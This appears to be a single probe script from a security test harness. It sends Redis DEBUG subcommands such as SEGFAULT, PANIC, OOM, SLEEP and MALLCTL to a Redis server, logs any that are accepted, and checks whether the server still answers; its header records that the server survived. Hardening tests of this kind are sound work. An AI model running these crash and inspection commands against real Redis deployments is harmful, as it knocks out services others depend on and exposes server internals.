// exploit: breaks its Redis with the commands made for testing it, and looks at its memory with them
// outcome: finished
// says: still there
// job: {"services":["redis"]}
const { createClient } = require('redis')

async function attack() {
  const client = await createClient({ url: process.env.REDIS_URL }).on('error', () => {}).connect()
  for (const words of [['SEGFAULT'], ['SLEEP', '30'], ['PANIC'], ['RESTART'], ['CRASH-AND-RECOVER'], ['RELOAD'], ['OBJECT', 'a'], ['SET-ACTIVE-EXPIRE', '0'], ['LOADAOF'], ['OOM'], ['MALLCTL', 'arenas.narenas']]) {
    const answer = await client.sendCommand(['DEBUG', ...words]).catch((error) => error)
    if (!(answer instanceof Error)) console.log('ESCAPED', ...words)
  }
  if ((await client.ping()) === 'PONG') console.log('still there')
  client.destroy()
}
attack()
